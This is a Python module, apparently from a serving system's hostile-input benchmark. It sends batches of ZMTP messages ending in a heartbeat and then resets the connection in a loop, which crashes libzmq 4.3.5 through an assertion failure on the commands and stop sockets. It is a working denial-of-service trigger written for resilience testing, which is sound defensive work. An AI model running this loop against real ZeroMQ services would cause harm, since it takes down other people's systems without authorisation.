"""A heartbeat behind more messages than the server reads at once, and then a reset.

libzmq 4.3.5 stops to read a connection whose queue is full. If the connection is reset then, and
the bytes that libzmq has already received contain a heartbeat, it writes the answer to the closed
connection, and aborts the process (``Assertion failed: !_io_error``, libzmq issue 4364).
"""

from __future__ import annotations

import contextlib
import struct
import time

from benchmarks.serving.hostile.attacks.attack import Attack, Target, attack
from benchmarks.serving.hostile.zmtp import RawPeer, command, frame, message

BATCH_BYTES = 8192
"""Bytes that libzmq reads at once."""

TTL_DECISECONDS = 10

PAUSES_S = (0.0, 0.0005, 0.001, 0.002)
"""Times between the messages and the reset [s]."""


def messages_and_ping(body: bytes) -> bytes:
    """Returns as many messages as libzmq reads at once, the last one a heartbeat.

    Args:
        body: Content of each message; a short one, so that they fill the queue.
    """
    ping = command(b"PING", struct.pack(">H", TTL_DECISECONDS) + b"context")
    one = message(body)
    return one * ((BATCH_BYTES - len(ping)) // len(one)) + ping


def ping_and_reset(target: Target, address: str, body: bytes) -> None:
    """Connects, sends messages and a heartbeat, and resets the connection; again and again."""
    data, number = messages_and_ping(body), 0
    while target.running():
        with contextlib.suppress(OSError):
            peer = RawPeer(address, minor=1)
            with contextlib.suppress(OSError):
                peer.send(data)
                peer.send(frame(b"x"))
                time.sleep(PAUSES_S[number % len(PAUSES_S)])
            peer.reset()
        number += 1
        time.sleep(0.005)


@attack()
def heartbeat_on_commands(target: Target) -> None:
    """Requests and a heartbeat, then a reset, on the commands socket."""
    ping_and_reset(target, target.commands, b"{}")


@attack(arm="either")
def heartbeat_on_stop(target: Target) -> None:
    """Messages without a stop and a heartbeat, then a reset, on the stop socket."""
    ping_and_reset(target, target.stop, b"[]")


ATTACKS: tuple[Attack, ...] = (heartbeat_on_commands, heartbeat_on_stop)
